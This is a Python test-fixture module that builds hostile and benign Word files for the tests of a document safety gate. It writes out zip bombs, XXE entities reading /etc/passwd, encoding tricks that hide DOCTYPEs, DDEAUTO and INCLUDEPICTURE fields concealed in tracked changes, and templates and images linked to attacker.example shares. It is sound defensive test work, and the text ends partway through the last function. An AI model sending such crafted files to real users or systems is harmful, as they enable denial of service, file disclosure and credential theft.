"""Hostile and benign `.docx` files, built in memory for the safety gate's tests.

Every builder is a pure function returning bytes. The packages are written by hand (a few parts
with `zipfile`, or raw zip records where the attack lives in the zip structure itself), so each
file contains exactly the one thing under test. The last sections hold parsing functions that
misbehave on purpose, for `parse_with_limits`, and probes that report what the parsing child
sees of the platform; they live here, in a module without test dependencies, because the child
process imports them by name.
"""

from __future__ import annotations

import builtins
import os
import pickle
import signal
import struct
import sys
import time
import warnings
import zipfile
import zlib
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from io import BytesIO

W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_RELS_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
MS_REL = "http://schemas.microsoft.com/office/2006/relationships/"

MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
MACRO_MAIN_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
DECLARATION = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'


# ---------------------------------------------------------------------------------------------
# The pieces of a minimal package


def content_types(
    overrides: Mapping[str, str] | None = None, defaults: Mapping[str, str] | None = None
) -> bytes:
    all_defaults = {
        "rels": "application/vnd.openxmlformats-package.relationships+xml",
        "xml": "application/xml",
        **(defaults or {}),
    }
    all_overrides = {"/word/document.xml": MAIN_TYPE, **(overrides or {})}
    return (
        DECLARATION
        + f'<Types xmlns="{CT_NS}">'
        + "".join(
            f'<Default Extension="{ext}" ContentType="{ct}"/>' for ext, ct in all_defaults.items()
        )
        + "".join(
            f'<Override PartName="{part}" ContentType="{ct}"/>'
            for part, ct in all_overrides.items()
        )
        + "</Types>"
    ).encode()


@dataclass(frozen=True)
class Rel:
    id: str
    type: str
    target: str
    external: bool = False


def relationships(rels: Iterable[Rel]) -> bytes:
    return (
        DECLARATION
        + f'<Relationships xmlns="{PKG_RELS_NS}">'
        + "".join(
            f'<Relationship Id="{r.id}" Type="{r.type}" Target="{r.target}"'
            + (' TargetMode="External"' if r.external else "")
            + "/>"
            for r in rels
        )
        + "</Relationships>"
    ).encode()


def document_xml(body: str = "<w:p><w:r><w:t>Article 1. Purpose.</w:t></w:r></w:p>") -> bytes:
    return (
        DECLARATION + f'<w:document xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:body>{body}'
        "<w:sectPr/></w:body></w:document>"
    ).encode()


def paragraphs(texts: Iterable[str]) -> str:
    return "".join(f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>" for text in texts)


def docx_parts(
    body: str | None = None,
    *,
    document: bytes | None = None,
    document_rels: Iterable[Rel] = (),
    overrides: Mapping[str, str] | None = None,
    defaults: Mapping[str, str] | None = None,
    extra: Mapping[str, bytes] | None = None,
) -> dict[str, bytes]:
    """The four parts of a minimal Word document, plus whatever a case adds."""
    if document is None:
        document = document_xml() if body is None else document_xml(body)
    return {
        "[Content_Types].xml": content_types(overrides, defaults),
        "_rels/.rels": relationships([Rel("rId1", REL + "officeDocument", "word/document.xml")]),
        "word/document.xml": document,
        "word/_rels/document.xml.rels": relationships(document_rels),
        **(extra or {}),
    }


def zip_parts(
    parts: Mapping[str, bytes] | Iterable[tuple[str, bytes]],
    *,
    stored: Iterable[str] = (),
) -> bytes:
    """A zip of the parts, names written verbatim (zipfile keeps `../x` and duplicates as given)."""
    stored = set(stored)
    items = parts.items() if isinstance(parts, Mapping) else parts
    buffer = BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # "Duplicate name": the duplicate is the point
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, data in items:
                info = zipfile.ZipInfo(name, date_time=(2024, 5, 1, 12, 0, 0))
                info.compress_type = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
                archive.writestr(info, data)
    return buffer.getvalue()


def minimal_docx(
    body: str | None = None,
    *,
    document: bytes | None = None,
    document_rels: Iterable[Rel] = (),
    overrides: Mapping[str, str] | None = None,
    defaults: Mapping[str, str] | None = None,
    extra: Mapping[str, bytes] | None = None,
) -> bytes:
    return zip_parts(
        docx_parts(
            body,
            document=document,
            document_rels=document_rels,
            overrides=overrides,
            defaults=defaults,
            extra=extra,
        )
    )


# ---------------------------------------------------------------------------------------------
# Benign documents that must pass


def png_image() -> bytes:
    """A real 1×1 PNG (signature, IHDR, IDAT, IEND), made without an imaging library."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
        )

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\x00\xff\x00\x00")
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")
    )


def with_hyperlink() -> bytes:
    body = '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>the mandate</w:t></w:r></w:hyperlink></w:p>'
    rels = [Rel("rId5", REL + "hyperlink", "https://www.oas.org/en/", external=True)]
    return minimal_docx(body, document_rels=rels)


def with_image() -> bytes:
    body = (
        '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/'
        'drawingml/2006/wordprocessingDrawing"><a:graphic xmlns:a="http://schemas.openxmlformats'
        '.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/'
        'drawingml/2006/picture"><pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/'
        '2006/picture"><pic:blipFill><a:blip r:embed="rId7"/></pic:blipFill></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )
    return minimal_docx(
        body,
        document_rels=[Rel("rId7", REL + "image", "media/image1.png")],
        defaults={"png": "image/png"},
        extra={"word/media/image1.png": png_image()},
    )


CHART_TYPE = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
WORKBOOK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
WORKBOOK_MAIN_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
WORKSHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"
EXTERNAL_LINK_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml"


def workbook(
    *,
    sheet: bytes | None = None,
    sheet_rels: Iterable[Rel] = (),
    workbook_rels: Iterable[Rel] = (),
    overrides: Mapping[str, str] | None = None,
    defaults: Mapping[str, str] | None = None,
    extra: Mapping[str, bytes] | None = None,
) -> bytes:
    """A minimal workbook (.xlsx) as Excel writes one for a chart's data: one sheet, its cells."""
    if sheet is None:
        sheet = (
            DECLARATION + f'<worksheet xmlns="{SHEET_NS}"><sheetData>'
            '<row r="1"><c r="A1" t="inlineStr"><is><t>Delegations</t></is></c>'
            '<c r="B1"><v>35</v></c></row></sheetData></worksheet>'
        ).encode()
    book = (
        DECLARATION + f'<workbook xmlns="{SHEET_NS}" xmlns:r="{R_NS}"><sheets>'
        '<sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ).encode()
    types = {
        "/xl/workbook.xml": WORKBOOK_MAIN_TYPE,
        "/xl/worksheets/sheet1.xml": WORKSHEET_TYPE,
        **(overrides or {}),
    }
    parts = {
        "[Content_Types].xml": content_types(defaults=defaults).replace(
            f'<Override PartName="/word/document.xml" ContentType="{MAIN_TYPE}"/>'.encode(),
            "".join(
                f'<Override PartName="{part}" ContentType="{ct}"/>' for part, ct in types.items()
            ).encode(),
        ),
        "_rels/.rels": relationships([Rel("rId1", REL + "officeDocument", "xl/workbook.xml")]),
        "xl/workbook.xml": book,
        "xl/_rels/workbook.xml.rels": relationships(
            [Rel("rId1", REL + "worksheet", "worksheets/sheet1.xml"), *workbook_rels]
        ),
        "xl/worksheets/sheet1.xml": sheet,
        **(extra or {}),
    }
    sheet_rels = list(sheet_rels)
    if sheet_rels:
        parts["xl/worksheets/_rels/sheet1.xml.rels"] = relationships(sheet_rels)
    return zip_parts(parts)


def chart_parts(book: bytes, folder: str = "word") -> dict[str, bytes]:
    """A chart part and its relationship to `book`, its data, under `folder`."""
    chart = (
        DECLARATION + '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/'
        f'chart" xmlns:r="{R_NS}"><c:externalData r:id="rId1"/></c:chartSpace>'
    ).encode()
    return {
        f"{folder}/charts/chart1.xml": chart,
        f"{folder}/charts/_rels/chart1.xml.rels": relationships(
            [Rel("rId1", REL + "package", "../embeddings/Microsoft_Excel_Worksheet.xlsx")]
        ),
        f"{folder}/embeddings/Microsoft_Excel_Worksheet.xlsx": book,
    }


def with_chart(book: bytes | None = None) -> bytes:
    """A chart whose data lives in an embedded workbook, as Word stores every chart."""
    return minimal_docx(
        document_rels=[Rel("rId9", REL + "chart", "charts/chart1.xml")],
        overrides={"/word/charts/chart1.xml": CHART_TYPE},
        defaults={"xlsx": WORKBOOK_TYPE},
        extra=chart_parts(workbook() if book is None else book),
    )


# ---------------------------------------------------------------------------------------------
# Raw zip records, for attacks on the zip structure itself


@dataclass(frozen=True)
class RawEntry:
    name: bytes
    payload: bytes  # the bytes as stored: compressed for method 8
    crc: int
    size: int  # declared uncompressed size, true or not
    method: int = zipfile.ZIP_DEFLATED
    flags: int = 0


def deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return compressor.compress(data) + compressor.flush()


def raw_entry(name: str, data: bytes) -> RawEntry:
    return RawEntry(name.encode(), deflate(data), zlib.crc32(data), len(data))


def raw_zip(entries: Iterable[RawEntry], aliases: Mapping[str, str] | None = None) -> bytes:
    """Local records, central directory and end record, written by hand. `aliases` adds central
    records under new names that point at an existing entry's data: overlapping entries."""
    local = BytesIO()
    central = BytesIO()
    count = 0
    records: dict[bytes, tuple[RawEntry, int]] = {}

    def central_record(entry: RawEntry, name: bytes, offset: int) -> None:
        fields = (20, entry.flags, entry.method, 0, 0x5821, entry.crc, len(entry.payload))
        central.write(struct.pack("<4s6HLL", b"PK\x01\x02", 20, *fields))
        central.write(struct.pack("<L5HLL", entry.size, len(name), 0, 0, 0, 0, 0, offset))
        central.write(name)

    for entry in entries:
        offset = local.tell()
        fields = (20, entry.flags, entry.method, 0, 0x5821, entry.crc, len(entry.payload))
        local.write(struct.pack("<4s5HLL", b"PK\x03\x04", *fields))
        local.write(struct.pack("<LHH", entry.size, len(entry.name), 0) + entry.name)
        local.write(entry.payload)
        central_record(entry, entry.name, offset)
        records[entry.name] = (entry, offset)
        count += 1
    for alias, original in (aliases or {}).items():
        entry, offset = records[original.encode()]
        central_record(entry, alias.encode(), offset)
        count += 1
    directory = central.getvalue()
    end = struct.pack(
        "<4s4HLLH", b"PK\x05\x06", 0, 0, count, count, len(directory), local.tell(), 0
    )
    return local.getvalue() + directory + end


def _zeros_deflated(mebibytes: int) -> tuple[bytes, int]:
    """A deflate stream of `mebibytes` MiB of zeros, built from one compressed MiB: after a full
    flush the compressor starts afresh, so each MiB compresses to the same ~1 KB block."""
    mebibyte = bytes(1 << 20)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    block = compressor.compress(mebibyte) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush()
    crc = 0
    for _ in range(mebibytes):
        crc = zlib.crc32(mebibyte, crc)
    return block * mebibytes + tail, crc


def zip_bomb(mebibytes: int = 1024) -> bytes:
    """A docx whose one extra part inflates to 1 GiB of zeros from ~1 MB, sizes declared truly."""
    stream, crc = _zeros_deflated(mebibytes)
    entries = [raw_entry(name, data) for name, data in docx_parts().items()]
    entries.append(RawEntry(b"word/media/image1.png", stream, crc, mebibytes << 20))
    return raw_zip(entries)


def zip_bomb_lying(mebibytes: int = 1024) -> bytes:
    """The same bomb, with a central directory that declares 1 KB for it: ratio checks on the
    declared sizes pass, and only inflating under a budget catches it."""
    stream, crc = _zeros_deflated(mebibytes)
    entries = [raw_entry(name, data) for name, data in docx_parts().items()]
    entries.append(RawEntry(b"word/media/image1.png", stream, crc, 1024))
    return raw_zip(entries)


def overlapping_entries() -> bytes:
    """Two directory records sharing one entry's data, the way overlapping zip bombs multiply a
    single compressed kernel."""
    entries = [raw_entry(name, data) for name, data in docx_parts().items()]
    return raw_zip(entries, aliases={"word/header1.xml": "word/document.xml"})


def truncated() -> bytes:
    data = minimal_docx()
    return data[: len(data) * 2 // 3]


def not_zip_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"


def old_word_document() -> bytes:
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)


def empty() -> bytes:
    return b""


def duplicate_entries() -> bytes:
    parts = list(docx_parts().items())
    second = document_xml(paragraphs(["A different Article 1, hidden from the check."]))
    return zip_parts([*parts, ("word/document.xml", second)])


def duplicate_entries_by_case() -> bytes:
    parts = list(docx_parts().items())
    return zip_parts([*parts, ("WORD/Document.xml", document_xml())])


def path_traversal(name: str = "../evil.xml") -> bytes:
    return zip_parts({**docx_parts(), name: b"<evil/>"})


def encrypted_entry() -> bytes:
    """A docx whose document part has the "encrypted" flag (bit 0) set in both its local header
    and its central directory record, patched into the bytes zipfile wrote."""
    data = bytearray(minimal_docx())
    info = zipfile.ZipFile(BytesIO(bytes(data))).getinfo("word/document.xml")
    data[info.header_offset + 6] |= 0x01
    position = 0
    while True:
        position = data.find(b"PK\x01\x02", position)
        assert position >= 0, "central record not found"
        name_length = struct.unpack("<H", data[position + 28 : position + 30])[0]
        if data[position + 46 : position + 46 + name_length] == b"word/document.xml":
            data[position + 8] |= 0x01
            return bytes(data)
        position += 4


def many_entries(count: int = 1500) -> bytes:
    extra = {f"customXml/item{i}.xml": b"<i/>" for i in range(count)}
    return zip_parts(docx_parts(extra=extra))


# ---------------------------------------------------------------------------------------------
# Attacks through XML


def billion_laughs() -> bytes:
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10 if i > 1 else "&lol;" * 10}">'
        for i in range(1, 10)
    )
    document = (
        '<?xml version="1.0"?>\n'
        f"<!DOCTYPE w:document [{entities}]>"
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&lol9;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    return minimal_docx(document=document)


def xxe() -> bytes:
    document = (
        '<?xml version="1.0"?>\n'
        '<!DOCTYPE w:document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W_NS}"><w:body><w:p><w:r><w:t>&xxe;</w:t></w:r></w:p>'
        "</w:body></w:document>"
    ).encode()
    return minimal_docx(document=document)


def plain_doctype() -> bytes:
    document = document_xml().replace(b"<w:document ", b"<!DOCTYPE w:document>\n<w:document ", 1)
    return minimal_docx(document=document)


def doctype_utf16() -> bytes:
    """The DOCTYPE in a UTF-16 part (with a byte order mark), invisible to a UTF-8 byte scan."""
    text = document_xml().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace(
        "<w:document ", '<!DOCTYPE w:document SYSTEM "http://x.example/d">\n<w:document ', 1
    )
    return minimal_docx(document=text.encode("utf-16"))


def doctype_in_relationships() -> bytes:
    parts = docx_parts()
    parts["word/_rels/document.xml.rels"] = parts["word/_rels/document.xml.rels"].replace(
        b"<Relationships ",
        b'<!DOCTYPE r [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n<Relationships ',
        1,
    )
    return zip_parts(parts)


def utf7_encoded() -> bytes:
    """A part that declares UTF-7, in which `+ADw-` is `<`: a DOCTYPE no byte scan would see."""
    document = (
        '<?xml version="1.0" encoding="UTF-7"?>'
        "+ADw-+ACE-DOCTYPE w:document+AD4-"
        f'<w:document xmlns:w="{W_NS}"><w:body/></w:document>'
    ).encode()
    return minimal_docx(document=document)


def doctype_utf16_big_endian() -> bytes:
    """UTF-16 big-endian without a byte order mark, known by its first bytes, as in libxml2."""
    text = document_xml().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    text = text.replace("<w:document ", "<!DOCTYPE w:document>\n<w:document ", 1)
    return minimal_docx(document=text.encode("utf-16-be"))


def doctype_in_disguised_part() -> bytes:
    """XML with a DOCTYPE in a part whose name and content type do not say XML."""
    xml = b'  <?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x/>'
    return minimal_docx(extra={"word/media/image2.bin": xml})


def entity_without_doctype() -> bytes:
    return minimal_docx(document=document_xml().replace(b"<w:body>", b'<w:body><!ENTITY x "y">', 1))


def utf16_document() -> bytes:
    """A legitimate document part in UTF-16 with a byte order mark, which OPC allows."""
    text = document_xml().decode().replace('encoding="UTF-8"', 'encoding="UTF-16"')
    return minimal_docx(document=text.encode("utf-16"))


def comment_and_cdata() -> bytes:
    """`<!--` and `<![CDATA[` are the two `<!` constructs that are not declarations."""
    return minimal_docx(
        document=document_xml().replace(b"<w:body>", b"<w:body><!-- note --><![CDATA[x]]>", 1)
    )


def huge_paragraph_count(count: int = 300_000) -> bytes:
    """300 000 empty paragraphs, stored rather than deflated so the compression ratio is not what
    refuses it: only the paragraph count can."""
    document = document_xml("<w:p/>" * count)
    return zip_parts(docx_parts(document=document), stored=["word/document.xml"])


# ---------------------------------------------------------------------------------------------
# Active content


def macro_enabled_renamed() -> bytes:
    """A .docm renamed .docx: macro-enabled main content type, vbaProject.bin and vbaData.xml."""
    return zip_parts(
        docx_parts(
            overrides={
                "/word/document.xml": MACRO_MAIN_TYPE,
                "/word/vbaData.xml": "application/vnd.ms-word.vbaData+xml",
            },
            defaults={"bin": "application/vnd.ms-office.vbaProject"},
            document_rels=[Rel("rId9", MS_REL + "vbaProject", "vbaProject.bin")],
            extra={
                "word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504),
                "word/vbaData.xml": b'<wne:vbaSuppData xmlns:wne="http://schemas.microsoft.com/office/word/2006/wordml"/>',
                "word/_rels/vbaProject.bin.rels": relationships(
                    [Rel("rId1", MS_REL + "wordVbaData", "vbaData.xml")]
                ),
            },
        )
    )


def macro_project_only() -> bytes:
    """Only the VBA project part, with the ordinary content type: caught by its name."""
    return minimal_docx(extra={"word/vbaProject.bin": bytes(512)})


def macro_content_type_only() -> bytes:
    """Only the macro-enabled main content type: caught by the content types."""
    return minimal_docx(overrides={"/word/document.xml": MACRO_MAIN_TYPE})


def external_template() -> bytes:
    settings = (
        DECLARATION + f'<w:settings xmlns:w="{W_NS}" xmlns:r="{R_NS}">'
        '<w:attachedTemplate r:id="rId1"/></w:settings>'
    ).encode()
    return minimal_docx(
        document_rels=[Rel("rId3", REL + "settings", "settings.xml")],
        overrides={
            "/word/settings.xml": "application/vnd.openxmlformats-officedocument."
            "wordprocessingml.settings+xml"
        },
        extra={
            "word/settings.xml": settings,
            "word/_rels/settings.xml.rels": relationships(
                [
                    Rel(
                        "rId1",
                        REL + "attachedTemplate",
                        "http://attacker.example/template.dotm",
                        external=True,
                    )
                ]
            ),
        },
    )


def external_template_on_a_share() -> bytes:
    """The template on a Windows share, with no TargetMode: the path itself says external."""
    return minimal_docx(
        document_rels=[Rel("rId3", REL + "settings", "settings.xml")],
        extra={
            "word/settings.xml": f'<w:settings xmlns:w="{W_NS}"/>'.encode(),
            "word/_rels/settings.xml.rels": relationships(
                [Rel("rId1", REL + "attachedTemplate", "\\\\server\\share\\t.dotm")]
            ),
        },
    )


def alt_chunk() -> bytes:
    return minimal_docx(
        '<w:altChunk r:id="rId8"/>',
        document_rels=[Rel("rId8", REL + "aFChunk", "afchunk.mht")],
        defaults={"mht": "message/rfc822"},
        extra={"word/afchunk.mht": b"MIME-Version: 1.0\r\n\r\n<html><body>x</body></html>"},
    )


def sub_document() -> bytes:
    return minimal_docx(
        '<w:p><w:subDoc r:id="rId8"/></w:p>',
        document_rels=[Rel("rId8", REL + "subDocument", "file:///C:/chapter2.docx", external=True)],
    )


def activex() -> bytes:
    control = (
        '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
        'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}" ax:persistence="persistStorage" '
        f'xmlns:r="{R_NS}" r:id="rId1"/>'
    ).encode()
    return minimal_docx(
        document_rels=[Rel("rId8", REL + "control", "activeX/activeX1.xml")],
        overrides={"/word/activeX/activeX1.xml": "application/vnd.ms-office.activeX+xml"},
        defaults={"bin": "application/vnd.ms-office.activeX"},
        extra={
            "word/activeX/activeX1.xml": control,
            "word/activeX/_rels/activeX1.xml.rels": relationships(
                [Rel("rId1", MS_REL + "activeXControlBinary", "activeX1.bin")]
            ),
            "word/activeX/activeX1.bin": bytes(512),
        },
    )


def ole_embedding() -> bytes:
    return minimal_docx(
        document_rels=[Rel("rId8", REL + "oleObject", "embeddings/oleObject1.bin")],
        defaults={"bin": "application/vnd.openxmlformats-officedocument.oleObject"},
        extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)},
    )


def embedded_file_unreferenced() -> bytes:
    """An embedded workbook nothing points to, with an innocent content type: caught by place."""
    return minimal_docx(
        extra={"word/embeddings/Microsoft_Word_Macro.docm": b"PK\x05\x06" + bytes(18)}
    )


def external_image() -> bytes:
    """A picture linked from a share: opening the file would send the reader's credentials."""
    return minimal_docx(
        document_rels=[
            Rel("rId7", REL + "image", "file://attacker.example/share/x.png", external=True)
        ]
    )


def excel_renamed() -> bytes:
    return minimal_docx(
        overrides={
            "/word/document.xml": "application/vnd.openxmlformats-officedocument."
            "spreadsheetml.sheet.main+xml"
        }
    )


# ---------------------------------------------------------------------------------------------
# Links and fields (issue #9): only web and e-mail links; no field that fetches outside content

FOOTNOTES_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
HEADER_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.header+xml"
COMMENTS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"
SETTINGS_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.settings+xml"


def linked(target: str) -> bytes:
    """A hyperlink in the text to `target` (XML-escaped here), as Word writes one."""
    body = '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>the annex</w:t></w:r></w:hyperlink></w:p>'
    return minimal_docx(body, document_rels=[Rel("rId5", REL + "hyperlink", target, True)])


def linked_from(part: str, content_type: str, relationship: str, root: str, target: str) -> bytes:
    """A hyperlink to `target` in another part of the document (a footnote, a header…)."""
    xml = (
        DECLARATION + f'<w:{root} xmlns:w="{W_NS}" xmlns:r="{R_NS}"><w:p><w:hyperlink r:id="rId1">'
        f"<w:r><w:t>see</w:t></w:r></w:hyperlink></w:p></w:{root}>"
    ).encode()
    folder, name = part.rsplit("/", 1)
    return minimal_docx(
        document_rels=[Rel("rId8", REL + relationship, name)],
        overrides={f"/{part}": content_type},
        extra={
            part: xml,
            f"{folder}/_rels/{name}.rels": relationships(
                [Rel("rId1", REL + "hyperlink", target, True)]
            ),
        },
    )


def link_in_footnote(target: str = "file:///C:/Windows/System32/calc.exe") -> bytes:
    return linked_from("word/footnotes.xml", FOOTNOTES_TYPE, "footnotes", "footnotes", target)


def link_in_header(target: str = "\\\\attacker.example\\share\\x.docx") -> bytes:
    return linked_from("word/header1.xml", HEADER_TYPE, "header", "hdr", target)


def link_in_comment(target: str = "javascript:alert(document.domain)") -> bytes:
    return linked_from("word/comments.xml", COMMENTS_TYPE, "comments", "comments", target)


def internal_mode_link() -> bytes:
    """A hyperlink with no TargetMode to a path: a file next to the document."""
    body = '<w:p><w:hyperlink r:id="rId5"><w:r><w:t>annex</w:t></w:r></w:hyperlink></w:p>'
    return minimal_docx(body, document_rels=[Rel("rId5", REL + "hyperlink", "Annex.docm")])


def complex_field(*instructions: str, result: str = "1") -> str:
    """A field as Word writes it: `begin`, the instruction in one run per piece (Word splits
    them where it likes), `separate`, the result, `end`."""
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(
            f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>'
            for piece in instructions
        )
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + f"<w:r><w:t>{result}</w:t></w:r>"
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def with_field(*instructions: str) -> bytes:
    return minimal_docx(f"<w:p>{complex_field(*instructions)}</w:p>")


def with_simple_field(instruction: str) -> bytes:
    """`w:fldSimple` (`instruction` XML-escaped here)."""
    return minimal_docx(
        f'<w:p><w:fldSimple w:instr="{instruction}"><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    )


def field_nested_in_if() -> bytes:
    """{ IF 1 = 1 "{ INCLUDETEXT … }" }: the outer field is harmless, the inner one is not."""
    inner = complex_field(' INCLUDETEXT "\\\\\\\\attacker.example\\\\s\\\\x.docx" ')
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> IF 1 = 1 "</w:instrText></w:r>'
        + inner
        + '<w:r><w:instrText xml:space="preserve">" "" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return minimal_docx(body)


def field_with_nested(*pieces: str) -> bytes:
    """A field whose code mixes instruction text and nested fields: each piece is instruction
    text, or, written `{…}`, a nested field with that code (and a result of its own)."""
    runs = []
    for piece in pieces:
        if piece.startswith("{") and piece.endswith("}"):
            runs.append(complex_field(piece[1:-1], result="x"))
        else:
            runs.append(f'<w:r><w:instrText xml:space="preserve">{piece}</w:instrText></w:r>')
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + "".join(runs)
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return minimal_docx(body)


def field_in_tracked_deletion() -> bytes:
    """The field's code is deleted with Track Changes: rejecting the change brings it back."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:del w:id="1" w:author="X" w:date="2024-05-01T10:00:00Z"><w:r>'
        '<w:delInstrText xml:space="preserve"> DDEAUTO cmd "/c calc" </w:delInstrText>'
        "</w:r></w:del>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return minimal_docx(body)


def field_hidden_by_a_tracked_insertion() -> bytes:
    """The code `PAGE` deleted and `INCLUDEPICTURE …` inserted with Track Changes: all the text
    together reads `PAGE INCLUDEPICTURE …`, a harmless field to a reader that ignores the
    changes, but accepting them makes the field fetch a picture."""
    body = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:del w:id="1" w:author="X" w:date="2024-05-01T10:00:00Z"><w:r>'
        '<w:delInstrText xml:space="preserve"> PAGE </w:delInstrText></w:r></w:del>'
        '<w:ins w:id="2" w:author="X" w:date="2024-05-01T10:00:00Z"><w:r>'
        '<w:instrText xml:space="preserve">INCLUDEPICTURE "http://attacker.example/p.png" \\d'
        "</w:instrText></w:r></w:ins>"
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )
    return minimal_docx(body)


def field_in_header() -> bytes:
    header = (
        DECLARATION
        + f'<w:hdr xmlns:w="{W_NS}"><w:p>'
        + complex_field(' INCLUDEPICTURE "\\\\\\\\attacker.example\\\\p.png" \\d ')
        + "</w:p></w:hdr>"
    ).encode()
    return minimal_docx(
        document_rels=[Rel("rId8", REL + "header", "header1.xml")],
        overrides={"/word/header1.xml": HEADER_TYPE},
        extra={"word/header1.xml": header},
    )


def mail_merge() -> bytes:
    settings = (
        DECLARATION + f'<w:settings xmlns:w="{W_NS}"><w:mailMerge>'
        '<w:mainDocumentType w:val="formLetters"/><w:linkToQuery/><w:dataType w:val="native"/>'
        '<w:connectString w:val="Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\'
        'attacker.example\\s\\d.xlsx"/><w:query w:val="SELECT * FROM `Sheet1$`"/>'
        "</w:mailMerge></w:settings>"
    ).encode()
    return minimal_docx(
        document_rels=[Rel("rId3", REL + "settings", "settings.xml")],
        overrides={"/word/settings.xml": SETTINGS_TYPE},
        extra={"word/settings.xml": settings},
    )


def vml_shape(attributes: str) -> bytes:
    body = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" '
        'xmlns:o="urn:schemas-microsoft-com:office:office" id="s1" style="width:10pt;height:10pt"'
        f" {attributes}/></w:pict></w:r></w:p>"
    )
    return minimal_docx(body)


def vml_picture_from_a_share() -> bytes:
    body = (
        '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" id="s1">'
        '<v:imagedata src="\\\\attacker.example\\s\\p.png"/></v:shape></w:pict></w:r></w:p>'
    )
    return minimal_docx(body)


# ---------------------------------------------------------------------------------------------
# Embedded packages: a chart's workbook goes through the whole gate


def workbook_with_macros() -> bytes:
